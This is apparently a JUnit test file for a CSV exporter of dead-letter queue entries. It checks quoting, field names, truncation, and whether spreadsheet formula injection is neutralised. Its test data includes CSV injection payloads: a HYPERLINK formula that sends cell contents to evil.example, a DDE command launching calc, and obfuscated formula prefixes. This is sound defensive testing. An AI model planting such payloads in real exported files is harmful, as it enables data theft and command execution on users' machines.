package dev.contrail.operations.view;

import static org.assertj.core.api.Assertions.assertThat;

import dev.contrail.event.EntryState;
import dev.contrail.evidence.DeadLetterId;
import dev.contrail.evidence.DeadLetterSummary;
import dev.contrail.evidence.Reason;
import dev.contrail.operations.index.IndexEntry;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EntryCsvTest {
  private static final Instant AT = Instant.parse("2026-01-01T12:00:00Z");

  private static IndexEntry entry(String message) {
    return new IndexEntry(
        new DeadLetterSummary(
            new DeadLetterId("ORDERS", "billing", "a1", 7),
            Reason.REJECTED,
            "orders.new",
            3,
            "com.example.CardException",
            message,
            "f00",
            AT,
            AT,
            12,
            "00",
            Optional.of("1.2"),
            false),
        EntryState.NEW,
        1);
  }

  private static List<String> lines(String message) {
    List<String> lines = new ArrayList<>();
    EntryCsv.write(List.of(entry(message)), lines::add);
    return lines;
  }

  @Test
  void a_line_of_names_and_a_line_each() {
    assertThat(lines("no \"money\", none"))
        .containsExactly(
            "id,state,reason,stream,sequence,consumer,subject,deliveries,exceptionClass,"
                + "exceptionMessage,fingerprint,deadAt,publishedAt,payloadBytes,payloadSha256,"
                + "appVersion,redacted\r\n",
            "\"ORDERS.billing.a1.7\",\"open\",\"rejected\",\"ORDERS\",7,\"billing\",\"orders.new\",3,"
                + "\"com.example.CardException\",\"no \"\"money\"\", none\",\"f00\","
                + "\"2026-01-01T12:00:00Z\",\"2026-01-01T12:00:00Z\",12,\"00\",\"1.2\",false\r\n");
  }

  @Test
  void its_names_are_those_of_the_fields() {
    assertThat(EntryFields.of(entry("x")).keySet()).containsExactlyElementsOf(EntryFields.NAMES);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u0000=1+1",
        "\u200e=1+1",
        "\u001b[31m=1+1",
        "\uff1d1+1",
        "|calc"
      })
  void what_a_spreadsheet_would_run_is_text(String message) {
    String line = lines(message).get(1);
    String cell = line.split(",\"", -1)[7];
    assertThat(cell).as(line).matches("'\\s*[=+\\-@|\uff1d].*");
    assertThat(line).doesNotContain("\u001b", "\u0000", "\t", "\u200e").endsWith("\r\n");
    assertThat(line.chars().filter(c -> c == '\n' || c == '\r')).hasSize(2);
  }

  @Test
  void a_megabyte_is_cut() {
    assertThat(lines("x".repeat(1_000_000)).get(1).length()).isLessThan(3_000);
  }
}
